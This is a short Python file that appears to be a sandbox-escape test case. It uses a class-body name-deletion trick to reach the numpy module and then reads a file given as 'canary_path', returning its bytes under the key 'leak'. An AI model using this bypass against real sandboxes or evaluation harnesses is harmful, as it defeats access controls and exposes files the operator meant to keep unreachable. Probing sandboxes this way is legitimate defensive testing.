# route: in a class body a deleted name falls back to the module's, where it is a library
import numpy as np


class Holder:
    np = 1
    del np
    library = np


def execute(testData):
    return {"leak": Holder.library.fromfile(testData["canary_path"], dtype="u1").tobytes().decode()}
